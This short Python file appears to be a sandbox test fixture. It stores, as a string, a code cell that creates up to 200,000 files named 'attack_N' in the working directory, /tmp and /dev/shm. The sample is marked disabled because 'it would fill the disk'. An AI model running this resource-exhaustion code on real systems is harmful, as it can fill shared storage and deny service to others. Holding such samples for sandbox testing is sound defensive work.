"""Files without end."""

CELL = """
import os
for place in (".", "/tmp", "/dev/shm"):
    try:
        for number in range(200_000):
            open(f"{place}/attack_{number}", "wb").write(b"x")
    except OSError as error:
        print(error)
"""
STOCK = False  # it would fill the disk
